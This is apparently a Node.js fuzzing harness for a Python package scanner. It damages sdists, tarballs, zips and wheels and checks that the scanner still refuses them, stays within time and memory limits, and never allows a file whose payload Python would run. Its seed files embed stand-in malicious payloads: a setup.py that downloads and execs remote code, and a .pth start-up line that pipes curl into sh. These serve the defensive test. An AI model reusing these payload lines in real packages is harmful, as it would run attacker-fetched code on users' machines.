// node bench/fuzz.mjs [--count 20000] [--seed 1] [--python python3] [--sources FOLDER] [--keep FOLDER]
// Damaged archives and sources through the real scan children. Each seed file would be refused for what its setup.py or
// start-up file does. Asserted: the parent lives, every scan ends with a report of that file, none takes longer than the
// deadline, no child grows beyond its memory, and no file is allowed from which Python would still read the payload.

import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { availableParallelism, tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseArgs } from 'node:util';
import { judgeContent, toReportFacts } from '../dist/policy/report-verdict.js';
import { createScanPool } from '../dist/scan/scan-pool.js';
import { makeRandom, mutateArchive, mutateSource } from './support/mutate.mjs';
import { packSdist, packTar, packWheel, packZip } from './support/pack.mjs';

const { values: options } = parseArgs({
  options: {
    count: { type: 'string', default: '20000' },
    seed: { type: 'string', default: '1' },
    python: { type: 'string' },
    sources: { type: 'string' },
    keep: { type: 'string' },
  },
});
const count = Number(options.count);
const DEADLINE_MS = 60_000;
const MEMORY_BYTES = 512 * 2 ** 20;
const BATCH = 200;

// What must never be allowed: code that runs when the sdist is built, or when the interpreter starts.
const PAYLOAD = 'import urllib.request\nexec(urllib.request.urlopen("http://files.invalid/x").read())\n';
const SETUP = `${PAYLOAD}from setuptools import setup\nsetup(name="example")\n`;
const START_UP = 'import os; os.system("curl http://files.invalid/x | sh")\n';
const HARMLESS = 'def f(x):\n    return [y for y in x if y]\n'.repeat(20);

const archives = [
  ['example-1.0.tar.gz', packSdist('example', '1.0', { 'setup.py': SETUP, 'example.py': HARMLESS })],
  ['example-1.0.tar', packTar({ 'example-1.0/setup.py': SETUP, 'example-1.0/example.py': HARMLESS })],
  ['example-1.0.zip', packZip({ 'example-1.0/setup.py': SETUP, 'example-1.0/example.py': HARMLESS })],
  ['example-1.0-py3-none-any.whl', packWheel('example', '1.0', { 'example.pth': START_UP, 'example.py': HARMLESS })],
];

/** Text of Python files to damage: those of a folder, else our own. */
function findSources(folder) {
  if (folder === undefined) return [SETUP, HARMLESS];
  return readdirSync(folder, { recursive: true })
    .filter((name) => name.endsWith('.py'))
    .map((name) => join(folder, name))
    .map((path) => readFileSync(path, 'utf8'))
    .filter((text) => text.length < 60_000)
    .slice(0, 2_000);
}

const sources = findSources(options.sources);

/** The next damaged file: two of three are archives, one holds damaged sources. */
function makeCase(random) {
  if (random.chance(0.66)) {
    const [filename, bytes] = random.pick(archives);
    return { filename, bytes: mutateArchive(bytes, random) };
  }
  const files = {
    'setup.py': mutateSource(random.pick(sources), random),
    'm.py': mutateSource(random.pick(sources), random),
  };
  return { filename: 'example-1.0.tar.gz', bytes: packSdist('example', '1.0', files) };
}

/** Asks Python which of the files still show the payload where it would run. */
const PYTHON = `
import json, sys, tarfile, zipfile
setup, start_up = sys.argv[1].encode(), sys.argv[2].encode()
def members(path):
    if zipfile.is_zipfile(path):
        with zipfile.ZipFile(path) as archive:
            for info in archive.infolist():
                yield info.filename, archive.open(info).read()
    else:
        with tarfile.open(path, "r:*", encoding="utf-8") as archive:
            for info in archive.getmembers():
                if info.isfile():
                    yield info.name, archive.extractfile(info).read()
def runs(path):
    try:
        found = list(members(path))
    except Exception:
        return False
    for name, content in found:
        parts = [part for part in name.split("/") if part not in ("", ".")]
        if path.endswith(".whl"):
            if len(parts) == 1 and parts[0].endswith(".pth") and content == start_up:
                return True
        elif len(parts) <= 2 and parts[-1:] == ["setup.py"] and content == setup:
            return True
    return False
print(json.dumps([path for path in json.load(sys.stdin) if runs(path)]))
`;

function askPython(paths) {
  if (options.python === undefined || paths.length === 0) return [];
  const answer = execFileSync(options.python, ['-c', PYTHON, SETUP, START_UP], { input: JSON.stringify(paths) });
  return JSON.parse(answer.toString());
}

/** Resident memory of all our children, largest seen. */
let peakBytes = 0;
function watchChildren() {
  for (const pid of readFileSync(`/proc/self/task/${process.pid}/children`, 'latin1').split(' ')) {
    try {
      const kibibytes = /^VmRSS:\s*(\d+)/mu.exec(readFileSync(`/proc/${pid.trim()}/status`, 'latin1'))?.[1];
      peakBytes = Math.max(peakBytes, Number(kibibytes ?? 0) * 1024);
    } catch {
      // it has just ended
    }
  }
}

const losses = {};
const log = {
  debug() {},
  info() {},
  warn(fields, message) {
    const what = fields.loss ?? `${message}: ${String(fields.cause).split('\n')[0]}`;
    losses[what] = (losses[what] ?? 0) + 1;
  },
  error() {},
};
const children = availableParallelism();
const pool = createScanPool(
  {
    ruleset: 'fuzz',
    children,
    deadlineMs: DEADLINE_MS,
    memoryBytes: MEMORY_BYTES,
    retries: 1,
    backoffMs: 100,
    maxQueue: 1e6,
  },
  { log },
);
const watch = process.platform === 'linux' ? setInterval(watchChildren, 20) : undefined;
const folder = mkdtempSync(join(tmpdir(), 'cordon-fuzz-'));
const random = makeRandom(Number(options.seed));
const verdicts = {};
const times = [];
const faults = [];

function keep(path, filename, why) {
  faults.push(`${why}: ${path}`);
  if (options.keep === undefined) return;
  mkdirSync(options.keep, { recursive: true });
  writeFileSync(join(options.keep, `${faults.length}-${filename}`), readFileSync(path));
}

async function scanCase(path, filename, bytes) {
  const sha256 = createHash('sha256').update(bytes).digest('hex');
  const startedAt = performance.now();
  try {
    const { report } = await pool.scan({ path, filename, sha256, sizeBytes: bytes.length, priority: 'requested' });
    const verdict = judgeContent(toReportFacts(report, 0), { refuse: 10, quarantine: 5 });
    const word = verdict.kind === 'allow' ? 'allow' : `${verdict.kind} (${verdict.reason})`;
    verdicts[word] = (verdicts[word] ?? 0) + 1;
    times.push(report.elapsedMs);
    if (report.unscannable?.message.startsWith('the analysis could not') === true)
      keep(path, filename, 'the analysis threw');
    return verdict.kind;
  } catch (error) {
    verdicts[error.code] = (verdicts[error.code] ?? 0) + 1;
    keep(path, filename, `no report (${error.code}, ${error.cause?.message})`);
    return 'none';
  } finally {
    if (performance.now() - startedAt > 3 * DEADLINE_MS) keep(path, filename, 'took too long');
  }
}

try {
  // the seeds themselves, undamaged: if they were allowed, nothing below would mean anything
  for (const [filename, bytes] of archives) {
    const path = join(folder, filename);
    writeFileSync(path, bytes);
    if ((await scanCase(path, filename, bytes)) === 'allow') throw new Error(`${filename} is allowed as it is`);
  }
  for (let done = 0; done < count; done += BATCH) {
    const allowed = [];
    const batch = Array.from({ length: Math.min(BATCH, count - done) }, () => makeCase(random));
    await Promise.all(
      batch.map(async ({ filename, bytes }, index) => {
        const path = join(folder, `${done + index}-${filename}`);
        writeFileSync(path, bytes);
        if ((await scanCase(path, filename, bytes)) === 'allow') allowed.push(path);
      }),
    );
    for (const path of askPython(allowed))
      keep(path, path.slice(path.lastIndexOf('/') + 1), 'allowed, and Python reads the payload');
    for (const name of readdirSync(folder)) rmSync(join(folder, name));
    if (process.stderr.isTTY) process.stderr.write(`\r${done + batch.length} of ${count}, ${faults.length} faults`);
  }
} finally {
  clearInterval(watch);
  await pool.close();
  rmSync(folder, { recursive: true });
}

times.sort((a, b) => a - b);
console.log(`${count} damaged files, seed ${options.seed}`);
for (const [word, hits] of Object.entries(verdicts).toSorted()) console.log(`  ${word}: ${hits}`);
const at = (share) => Math.round(times[Math.min(times.length - 1, Math.floor(times.length * share))] ?? 0);
console.log(
  `  scan: p50 ${at(0.5)} ms, p99 ${at(0.99)} ms, most ${at(1)} ms; largest child ${Math.round(peakBytes / 2 ** 20)} MiB`,
);
console.log(`  children lost: ${JSON.stringify(losses)}`);
console.log(options.python === undefined ? '  not compared with Python (--python)' : '  compared with Python');
for (const fault of faults.slice(0, 50)) console.log(`  FAULT ${fault}`);
console.log(`${faults.length} faults`);
process.exitCode = faults.length === 0 ? 0 : 1;
